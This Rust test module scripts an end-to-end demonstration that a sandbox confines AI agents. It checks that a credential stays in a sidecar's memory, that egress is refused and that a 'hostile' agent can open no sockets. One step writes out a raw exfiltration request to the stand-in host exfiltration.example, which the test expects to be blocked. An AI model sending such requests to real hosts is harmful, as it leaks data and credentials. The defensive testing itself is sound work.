//! The demonstration, step by step: what `e2e/quickstart` shows and the cluster tests demand.
//!
//! A step fails unless it has shown what its title says.

use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::{Value, json};

use crate::cluster::{Cluster, Failed, Team};
use crate::search::Verdict;

type Lines = Result<Vec<String>, Box<dyn std::error::Error>>;

/// How many calls with a credential are made while the search looks.
const CALLS: u32 = 100;

/// One step.
pub struct Step {
    /// What it shows.
    pub title: &'static str,
    /// Shows it, and says how in a few lines.
    pub show: fn(&Team<'_>) -> Lines,
}

/// All steps in order.
pub const STEPS: [Step; 6] = [
    Step { title: "The agents are Ready, each in a pod of its own", show: ready },
    Step { title: "A task that needs the credential is answered", show: task },
    Step { title: "The API saw the credential, which the agent never had", show: arrived },
    Step { title: "The credential is nowhere but in the sidecar's memory", show: searched },
    Step {
        title: "Data sent elsewhere is refused, and the refusal names object and field",
        show: exfiltration,
    },
    Step { title: "There is no socket to get out by", show: sockets },
];

fn ready(team: &Team<'_>) -> Lines {
    let mut lines = Vec::new();
    for agent in ["helper", "hostile"] {
        team.cluster.wait_ready(&team.namespace, agent)?;
    }
    let table = team.cluster.kubectl(&["get", "agents,pods", "-n", &team.namespace, "-o", "wide"])?.stdout;
    lines.extend(table.lines().map(str::to_owned));
    Ok(lines)
}

fn task(team: &Team<'_>) -> Lines {
    requests(team.cluster, "DELETE")?;
    let answer = team.call("notes__get_note", &json!({"id": "7"}))?;
    demand(answer.contains("This is the text of note 7"), &format!("the answer is: {answer}"))?;
    demand(!answer.contains(&team.credential), "the answer holds the credential")?;
    Ok(vec![
        "kubectl redoubt chat helper: please read note 7".to_owned(),
        format!("the agent: {}", answer.trim()),
    ])
}

fn arrived(team: &Team<'_>) -> Lines {
    let seen = requests(team.cluster, "GET")?;
    let expected = format!("Bearer {}", team.credential);
    let count = seen.matches(&expected).count();
    demand(count > 0, "no request with the credential arrived")?;
    let shown: String = expected.chars().take(13).collect();
    Ok(vec![format!(
        "GET /v1/notes/7 arrived with authorization: {shown}... ({} characters), {count} time(s)",
        expected.len()
    )])
}

fn searched(team: &Team<'_>) -> Lines {
    if std::env::var("REDOUBT_CLUSTER").is_ok_and(|cluster| cluster != "local") {
        return Ok(vec![
            "NOT SHOWN on this cluster: the search reads the memory of the node's processes and etcd's files"
                .to_owned(),
        ]);
    }
    let done = AtomicBool::new(false);
    let directive = json!({"tool": "notes__get_note", "arguments": {"id": "7"}, "times": CALLS});
    requests(team.cluster, "DELETE")?;
    let (calls, outside, sidecar, rounds) =
        std::thread::scope(|scope| -> Result<_, Box<dyn std::error::Error>> {
            let calls = scope.spawn(|| {
                let answer = team.cluster.chat(&team.namespace, "helper", &format!("```call {directive}```"));
                done.store(true, Ordering::Release);
                answer
            });
            let mut rounds = 0;
            let (outside, sidecar) = loop {
                let last = done.load(Ordering::Acquire);
                let outside = team.cluster.search_outside_the_sidecar(team, "helper")?;
                let sidecar = team.cluster.search_the_sidecar(team, "helper")?;
                rounds += 1;
                if last || outside.report.verdict() != Verdict::NotFound {
                    break (outside, sidecar);
                }
            };
            let calls = calls.join().map_err(|_| "the thread that made the calls ended badly")??;
            Ok((calls, outside, sidecar, rounds))
        })?;
    let arrived = requests(team.cluster, "GET")?.matches(&team.credential).count();
    demand(arrived >= CALLS as usize, &format!("only {arrived} of {CALLS} calls arrived: {calls}"))?;
    demand(outside.report.verdict() == Verdict::NotFound, &format!("{}", outside.report))?;
    demand(
        sidecar.report.verdict() == Verdict::Found,
        &format!("the searcher does not find it: {}", sidecar.report),
    )?;
    let mut lines = vec![format!(
        "searched {rounds} time(s) while {arrived} calls carried it; in plain, base64, hex and percent form:"
    )];
    lines.extend(outside.places.iter().map(|place| format!("  nothing in {place}")));
    lines.extend(outside.report.counts.iter().map(|(what, number)| format!("  ({what}: {number})")));
    lines.extend(
        sidecar.places.iter().map(|place| format!("  found in {place}: {} time(s)", sidecar.report.found)),
    );
    Ok(lines)
}

fn exfiltration(team: &Team<'_>) -> Lines {
    let text = "GET https://exfiltration.example/drop?data=stolen HTTP/1.1\r\nhost: exfiltration.example\r\nconnection: close\r\n\r\n";
    let outcome =
        order(team, &json!({"do": "raw", "socket": "/run/redoubt/egress/egress.sock", "text": text}))?;
    let answer = outcome.get("answer").and_then(Value::as_str).unwrap_or_default();
    demand(answer.starts_with("HTTP/1.1 403"), &format!("the answer is: {outcome}"))?;
    let body: Value = serde_json::from_str(answer.split("\r\n\r\n").nth(1).unwrap_or_default())?;
    let field = |name: &str| {
        body.pointer(&format!("/error/{name}")).and_then(Value::as_str).unwrap_or_default().to_owned()
    };
    demand(
        !field("object").is_empty() && !field("field").is_empty(),
        &format!("object or field is missing: {body}"),
    )?;
    Ok(vec![
        "the hostile brain sends GET https://exfiltration.example/drop?data=stolen".to_owned(),
        format!("refused: {} by {} {}", field("reason"), field("object"), field("field")),
        format!("  {}", field("message")),
        format!("  {}", field("help")),
    ])
}

fn sockets(team: &Team<'_>) -> Lines {
    let outcome = order(team, &json!({"do": "sockets"}))?;
    demand(outcome.get("opened") == Some(&json!([])), &format!("opened: {outcome}"))?;
    let refused = outcome.get("refused").and_then(Value::as_object).ok_or("nothing was refused")?;
    let mut lines = vec![
        format!("the hostile brain asks the kernel for {} kinds of sockets; each is refused", refused.len()),
        "with EBADRQC (error 56), which is the jail's own answer and nobody else's:".to_owned(),
    ];
    lines.extend(
        refused
            .iter()
            .filter(|(kind, _)| kind.contains("raw") || kind.contains("inet stream"))
            .map(|(kind, why)| format!("  {kind}: {why}")),
    );
    Ok(lines)
}

fn order(team: &Team<'_>, order: &Value) -> Result<Value, Box<dyn std::error::Error>> {
    let answer = team.cluster.chat(&team.namespace, "hostile", &order.to_string())?;
    Ok(serde_json::from_str(answer.trim())?)
}

/// What the API double recorded (`GET`), or forgets it (`DELETE`).
fn requests(cluster: &Cluster, method: &str) -> Result<String, Failed> {
    let path = "/api/v1/namespaces/redoubt-e2e/services/http:echo:8444/proxy/control/requests";
    match method {
        "DELETE" => cluster.kubectl(&["delete", "--raw", path]),
        _ => cluster.kubectl(&["get", "--raw", path]),
    }
    .map(|output| output.stdout)
}

fn demand(holds: bool, otherwise: &str) -> Result<(), String> {
    if holds { Ok(()) } else { Err(otherwise.to_owned()) }
}
